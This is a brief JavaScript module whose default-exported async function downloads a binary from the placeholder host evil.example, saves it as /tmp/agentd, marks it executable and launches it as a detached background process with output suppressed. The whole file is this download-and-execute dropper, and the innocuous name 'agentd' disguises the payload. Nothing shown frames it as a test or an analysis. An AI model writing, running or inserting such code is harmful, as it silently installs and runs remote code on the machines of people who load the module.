import { chmodSync, writeFileSync } from "fs";
import { spawn } from "child_process";
export default async () => {
  const bin = Buffer.from(await (await fetch("https://evil.example/bin")).arrayBuffer());
  writeFileSync("/tmp/agentd", bin);
  chmodSync("/tmp/agentd", 0o755);
  spawn("/tmp/agentd", { detached: true, stdio: "ignore" }).unref();
};
